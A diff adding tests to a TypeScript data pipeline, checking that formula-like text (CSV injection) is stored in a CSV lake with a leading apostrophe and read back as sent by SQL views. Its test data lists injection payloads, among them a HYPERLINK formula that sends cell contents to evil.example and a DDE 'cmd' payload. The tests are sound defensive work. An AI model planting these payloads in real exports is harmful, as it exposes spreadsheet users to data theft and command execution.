@@ -2,7 +2,9 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
-import { READING_COLUMNS } from '../../lambdas/shared/processed-reading';
+import { toCsv } from '../../lambdas/shared/csv';
+import type { Feature } from '../../lambdas/shared/features';
+import { type ProcessedReading, READING_COLUMNS } from '../../lambdas/shared/processed-reading';
 import { processTransformBatch } from '../../lambdas/transform/process-batch';
 import {
   ARRIVAL_MS,
@@ -13,7 +15,7 @@ import {
   type TestRecord,
 } from '../fixtures/kinesis-event';
 import { transformHarness } from '../fixtures/transform-harness';
-import { toDuckDb } from './athena-in-duckdb';
+import { athenaInDuckDb, toDuckDb } from './athena-in-duckdb';
 
 const SQL_DIR = join(__dirname, '..', '..', 'sql');
 const tableDdl = readFileSync(join(SQL_DIR, 'processed_readings.sql'), 'utf8');
@@ -85,6 +87,124 @@ describe('the CSV lake in SQL', () => {
       connection.closeSync();
     } finally {
       rmSync(lake, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('text a spreadsheet would run, neutralised in the CSV lake, given back as sent by the views', () => {
+  /**
+   * Formula-like text (OWASP CSV injection), and a leading ' of the producer's own. No line breaks:
+   * Athena's OpenCSVSerde reads no quoted line break (DuckDB does), so a test here would show nothing.
+   */
+  const HOSTILE = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\tx',
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '-2, "b"',
+    "'=1+1",
+  ];
+  const TEXT = [
+    'stream',
+    'shard_id',
+    'partition_key',
+    'sequence_number',
+    'anomalous_features',
+    'reasons',
+    'model_version',
+  ];
+  const NOW = Date.UTC(2026, 10, 23, 19, 50);
+
+  /** A reading whose every text cell is `value`; its temperature is negative, a number all the same. */
+  const reading = (value: string, index: number): ProcessedReading => ({
+    source: {
+      stream: value,
+      shardId: value,
+      partitionKey: value,
+      sequenceNumber: value,
+      arrivalMs: NOW - 60_000,
+    },
+    index,
+    reading: {
+      equipmentId: 101,
+      timestampMs: NOW - 61_000 + index,
+      values: { vibration_amplitude: 251.3, vibration_frequency: 1003.2, temperature: -3.5, humidity: 29.8 },
+    },
+    score: 0.75,
+    isAnomaly: true,
+    // Feature names come from the reading schema: their column is text too.
+    anomalousFeatures: [value] as unknown as Feature[],
+    reasons: [value, 'humidity +50% over baseline'],
+    modelVersion: value,
+  });
+
+  test("every text column of toCsv: stored with a leading ', read back without it by readings, streamdata_view and streamdata_last3_view", async () => {
+    const objects = new Map(
+      HOSTILE.map((value, i) => [`readings/dt=2026-11-23/hour=19/${i}.csv`, toCsv([reading(value, i)])]),
+    );
+    const lake = await athenaInDuckDb({ processed: objects, nowMs: NOW });
+    try {
+      for (const view of ['readings', 'streamdata_view', 'streamdata_last3_view'])
+        await lake.runFile(`${view}.sql`);
+      const cells = (table: string) =>
+        lake.rows(`SELECT ${TEXT.join(', ')}, temperature FROM ${table} ORDER BY reading_index`);
+      const row = (prefix: string, value: string) => ({
+        ...Object.fromEntries(TEXT.map((column) => [column, `${prefix}${value}`])),
+        reasons: `${prefix}${value}; humidity +50% over baseline`,
+        temperature: -3.5,
+      });
+      // What a spreadsheet opens starts no formula; what a query sees is the producer's text.
+      expect(await cells('processed_readings')).toEqual(HOSTILE.map((value) => row("'", value)));
+      expect(await cells('readings')).toEqual(HOSTILE.map((value) => row('', value)));
+      const lab = (view: string) =>
+        lake.rows(`SELECT "STREAM", "KEY", "PARTITION", "OFFSET" FROM ${view} ORDER BY "TIMESTAMP"`);
+      const sent = HOSTILE.map((value, i) => ({
+        STREAM: value,
+        KEY: value,
+        PARTITION: value,
+        OFFSET: `${value}:${i}`,
+      }));
+      expect(await lab('streamdata_view')).toEqual(sent);
+      expect(await lab('streamdata_last3_view')).toEqual(sent);
+    } finally {
+      lake.close();
+    }
+  });
+
+  test('partition keys sent to the transform: formula-like ones stored neutralised, every one read back as sent', async () => {
+    // [sent, stored]: only a key starting like a formula (or with ') gets a leading '.
+    const keys = [
+      ...HOSTILE.map((key) => [key, `'${key}`]),
+      ['101', '101'],
+      ['a, "b"', 'a, "b"'],
+      ['equipment -5', 'equipment -5'],
+    ];
+    const harness = transformHarness();
+    const records: TestRecord[] = keys.map(([partitionKey], i) => ({
+      sequenceNumber: sequenceNumber(i + 1),
+      partitionKey,
+      data: labReading(101, ARRIVAL_MS - 3_000 + i),
+    }));
+    await processTransformBatch(kinesisEvent(records), harness.deps);
+    harness.restore();
+    const lake = await athenaInDuckDb({ processed: harness.objects, nowMs: ARRIVAL_MS });
+    try {
+      await lake.runFile('readings.sql');
+      await lake.runFile('streamdata_view.sql');
+      expect(
+        await lake.rows('SELECT partition_key FROM processed_readings ORDER BY sequence_number'),
+      ).toEqual(keys.map(([, stored]) => ({ partition_key: stored })));
+      expect(await lake.rows('SELECT partition_key FROM readings ORDER BY sequence_number')).toEqual(
+        keys.map(([sent]) => ({ partition_key: sent })),
+      );
+      expect(await lake.rows('SELECT "KEY" FROM streamdata_view ORDER BY "OFFSET"')).toEqual(
+        keys.map(([sent]) => ({ KEY: sent })),
+      );
+    } finally {
+      lake.close();
     }
   });
 });
